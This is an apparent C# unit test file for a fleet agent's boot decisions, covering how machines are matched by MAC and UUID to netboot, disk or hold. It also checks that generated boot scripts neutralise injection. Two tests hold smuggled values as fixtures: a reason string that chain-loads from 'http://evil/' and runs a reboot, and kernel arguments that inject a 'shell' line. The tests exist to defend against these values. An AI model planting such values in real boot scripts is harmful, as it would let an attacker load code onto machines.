using Cozy.Fleet.Agent.Boot;
using Cozy.Fleet.Contracts.V1;
using Cozy.Fleet.Dhcp;
using Cozy.Fleet.Primitives;

namespace Cozy.Fleet.Agent.Tests.Boot;

public sealed class BootDecisionTests
{
    private const string MacA = "52:54:00:00:00:0a";
    private const string MacB = "52:54:00:00:00:0b";
    private const string UuidA = "4c4c4544-0042-3510-8054-b4c04f4b5a32";
    private const string UuidASwapped = "44454c4c-4200-1035-8054-b4c04f4b5a32";
    private const string UuidB = "11223344-5566-4788-99aa-bbccddeeff00";

    private static readonly DesiredState State = new()
    {
        Images = { new BootImage { Name = "talos", TalosVersion = "v1.13.8" } },
        Nodes =
        {
            new NodeBoot { Node = "a", Uuid = UuidA, Macs = { MacA }, Action = BootAction.Netboot, Image = "talos" },
            new NodeBoot { Node = "b", Uuid = UuidB, Macs = { MacB }, Action = BootAction.Disk },
            new NodeBoot { Node = "c", Macs = { "52:54:00:00:00:0c" }, Action = BootAction.Netboot, Image = "unknown" },
            new NodeBoot { Node = "d", Macs = { "52:54:00:00:00:0d" } },
        },
        UnknownAction = BootAction.Netboot,
        UnknownImage = "talos",
    };

    [Theory]
    [InlineData(MacA, UuidA, "Netboot", "a")]
    [InlineData(MacA, UuidASwapped, "Netboot", "a")] // firmware older than SMBIOS 2.6
    [InlineData(MacA, null, "Netboot", "a")]
    [InlineData("52:54:00:00:00:ff", UuidA, "Netboot", "a")] // a new card
    [InlineData(MacB, UuidB, "Disk", "b")]
    [InlineData(MacA, UuidB, "Hold", "")] // a card that moved, or one UUID on two boards
    [InlineData("52:54:00:00:00:0c", null, "Hold", "c")] // its image is not known here yet
    [InlineData("52:54:00:00:00:0d", null, "Disk", "d")] // undecided
    [InlineData("52:54:00:00:00:ff", null, "Netboot", "")] // unknown, and the rack says discovery
    public void Machine_gets_what_is_desired_and_never_more(string mac, string? uuid, string action, string node)
    {
        MachineUuid? known = uuid is not null && MachineUuid.TryParse(uuid, out var parsed) ? parsed : null;
        var plan = BootDecision.For(State, MacAddress.Parse(mac), known);
        Assert.Equal((action, node), (plan.Action.ToString(), plan.Node));
        Assert.Equal(plan.Action == BootAction.Netboot, plan.Image is not null);
    }

    [Fact]
    public void Without_any_word_of_the_coordinator_machines_boot_their_disks()
    {
        Assert.Equal(BootAction.Disk, BootDecision.For(null, MacAddress.Parse(MacA), null).Action);
        Assert.Equal(BootAction.Disk, BootDecision.For(new(), MacAddress.Parse(MacA), null).Action);
    }

    [Fact]
    public void Reason_cannot_be_a_command_of_the_script()
    {
        var plan = new BootPlan(BootAction.Disk, null, "x\nchain http://evil/ || ${net0/mac} && `reboot`", "", "", "");
        foreach (var script in new[] { BootScripts.Disk(plan, "s1", ClientFirmware.Bios), BootScripts.Hold(plan, "s1") })
        {
            var said = Assert.Single(script.Split('\n'), line => line.Contains("evil", StringComparison.Ordinal));
            Assert.StartsWith("echo Cozy Fleet:", said, StringComparison.Ordinal);
            Assert.DoesNotContain(said, c => c is '$' or '|' or '&' or '`');
        }
    }

    [Fact]
    public void Kernel_arguments_of_an_image_stay_on_their_line()
    {
        var image = new BootImage { TalosVersion = "v1.13.8", KernelArgs = { "console=ttyS0\nshell", "a=${uuid}" } };
        var asset = new BootAsset { Sha256 = new('a', 64) };
        var script = BootScripts.Netboot(
            new(BootAction.Netboot, image, "install", "a", "", ""), "s1", asset, asset, ClientFirmware.UefiX64);
        var kernel = Assert.Single(script.Split('\n'), line => line.StartsWith("kernel ", StringComparison.Ordinal));
        Assert.Contains("console=ttyS0.shell a=.{uuid} || goto again", kernel, StringComparison.Ordinal);
        Assert.DoesNotContain(script.Split('\n'), line => line.StartsWith("shell", StringComparison.Ordinal));
    }
}
